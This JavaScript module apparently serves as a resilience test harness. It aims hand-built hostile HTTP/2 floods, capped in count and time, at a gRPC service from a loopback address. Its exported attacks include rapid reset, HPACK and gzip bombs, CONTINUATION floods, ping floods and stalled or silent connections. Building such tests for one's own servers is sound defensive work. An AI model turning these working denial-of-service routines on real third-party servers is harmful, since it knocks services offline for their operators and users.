// Hostile HTTP/2, each kind bounded in count and time, over plain TCP or TLS, from an address of loopback of its own so
// that limits per address meet the strangers alone. Frames are made by hand where no library would send them.
import http2 from "node:http2";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import tls from "node:tls";
import { promisify } from "node:util";
import zlib from "node:zlib";

const STRANGER = "127.0.0.66";
const PATH = "/gongjin.access.v1.AccessService/ListSigningKeys";
const MOST_SECONDS = 10;

// { host, port, ca }: with a ca over TLS.
function socket({ host, port, ca }) {
  const to = { host, port, localAddress: STRANGER };
  const one = ca ? tls.connect({ ...to, ca, ALPNProtocols: ["h2"], checkServerIdentity: () => undefined }) : net.connect(to);
  return one.on("error", () => {});
}
const connected = (one) => new Promise((resolve) => one.once(one.encrypted ? "secureConnect" : "connect", resolve)
  .once("close", resolve));
const session = (target) => http2.connect(`${target.ca ? "https" : "http"}://${target.host}:${target.port}`,
  { createConnection: () => socket(target) }).on("error", () => {});
const gone = (one) => one.destroyed || one.closed;
const settled = (stream) => new Promise((resolve) => stream.on("error", resolve).on("close", resolve));

const open = (connection, headers = {}) => connection.request({ ":method": "POST", ":path": PATH,
  "content-type": "application/grpc", te: "trailers", ...headers });
// A message that says it has `claimed` bytes and brings `body`.
function message(claimed, body, compressed = 0) {
  const head = Buffer.from([compressed, 0, 0, 0, 0]);
  head.writeUInt32BE(claimed, 1);
  return Buffer.concat([head, body]);
}

const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4;
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);
// HPACK, literal without indexing; lengths below 127.
const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
const literal = (name, value) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
const CALL = Buffer.concat([literal(":method", "POST"), literal(":scheme", "http"), literal(":path", PATH),
  literal(":authority", "x"), literal("content-type", "application/grpc"), literal("te", "trailers")]);
// Puts a header of 4,000 bytes into the peer's table: a literal with indexing, a name of one byte, a length of 4,000.
const BIG = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x61)]);
const BIG_AGAIN = Buffer.from([0xbe]);  // the newest entry, in one byte

// Sends what `pieces` yields, as fast as it is taken, and then nothing for a second.
async function send(target, pieces) {
  const one = socket(target);
  one.resume();
  await connected(one);
  const end = Date.now() + MOST_SECONDS * 1000;
  one.write(PREFACE);
  for (const piece of pieces()) {
    if (gone(one) || Date.now() > end) break;
    if (!one.write(piece)) await Promise.race([new Promise((resolve) => one.once("drain", resolve).once("close", resolve)), sleep(2000)]);
  }
  await sleep(1000);
  one.destroy();
}

// Bodies that never end, on 4 connections, 60 streams each, `claimed` bytes said, all but 100,000 sent.
async function halfSent(target, claimed = 4_000_000) {
  const connections = Array.from({ length: 4 }, () => session(target));
  const body = message(claimed, Buffer.alloc(claimed - 100_000));
  const all = connections.flatMap((connection) => Array.from({ length: 60 }, () => new Promise((resolve) => {
    const stream = open(connection);
    settled(stream).then(resolve);
    stream.write(body, resolve);
  })));
  await Promise.race([Promise.all(all), sleep(MOST_SECONDS * 1000)]);
  await sleep(1000);
  for (const connection of connections) connection.destroy();
}

// One message that says it has 4 GB, until somebody objects.
async function endless(target) {
  const connection = session(target);
  const stream = open(connection), end = settled(stream);
  stream.write(message(0xffffffff, Buffer.alloc(0)));
  const block = Buffer.alloc(1 << 20);
  for (let sent = 0; sent < 1024 && !gone(stream); ++sent)
    if (!stream.write(block)) await Promise.race([new Promise((resolve) => stream.once("drain", resolve)), end, sleep(2000)]);
  await Promise.race([end, sleep(1000)]);
  connection.destroy();
}

// 60 messages of 100 kB, each of which would be 100 MB, on connections of their own, since gRPC lets one that it has
// refused so stall. The answers' codes, as often as they came.
async function gzipBombs(target) {
  const bomb = await promisify(zlib.gzip)(Buffer.alloc(100 << 20)), codes = {};
  const connections = Array.from({ length: 60 }, () => session(target));
  await Promise.race([sleep(MOST_SECONDS * 1000), Promise.all(connections.map((connection) => new Promise((resolve) => {
    const stream = open(connection, { "grpc-encoding": "gzip" }).on("error", resolve).on("close", resolve);
    stream.on("response", ({ "grpc-status": code }) => { codes[code] = (codes[code] ?? 0) + 1; resolve(); });
    stream.resume().end(message(bomb.length, bomb, 1));
  })))]);
  for (const connection of connections) connection.destroy();
  return codes;
}

// 20,000 calls begun before the server's settings are acknowledged, none of which ends.
const unacknowledged = (target) => send(target, function* () {
  for (let i = 0; i < 20_000; ++i) yield frame(HEADERS, END_HEADERS, 2 * i + 1, CALL);
});

// 40,000 calls taken back as soon as they are made.
const rapidReset = (target) => send(target, function* () {
  for (let i = 0; i < 40_000; ++i)
    yield Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, CALL),
      frame(RST_STREAM, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8]))]);
});

// 200 calls whose headers are 4,000 bytes a byte: 60 MB each.
const hpackBombs = (target) => send(target, function* () {
  for (let i = 0; i < 200; ++i)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1,
      Buffer.concat([CALL, i === 0 ? BIG : Buffer.alloc(0), Buffer.alloc(15_000 - 4100, BIG_AGAIN)]));
});

// Headers that go on for 100 MB.
const continued = (target) => send(target, function* () {
  yield frame(HEADERS, 0, 1, CALL);
  const more = frame(CONTINUATION, 0, 1, Buffer.concat(Array.from({ length: 120 }, () => literal("x", "y".repeat(120)))));
  for (let i = 0; i < 6_500; ++i) yield more;
});

const pings = (target) => send(target, function* () {
  const many = Buffer.concat(Array.from({ length: 100 }, () => frame(PING, 0, 0, Buffer.alloc(8))));
  for (let i = 0; i < 1000; ++i) yield many;
});

// 400 connections that say nothing.
async function silent(target) {
  const all = Array.from({ length: 400 }, () => socket(target));
  await sleep(3000);
  for (const one of all) one.destroy();
}

export const FLOODS = { "half-sent bodies": halfSent, "a body of 4 GB": endless, "gzip bombs": gzipBombs,
  "settings never acknowledged": unacknowledged, "rapid reset": rapidReset, "HPACK bombs": hpackBombs,
  "headers without end": continued, "pings": pings, "silent connections": silent };
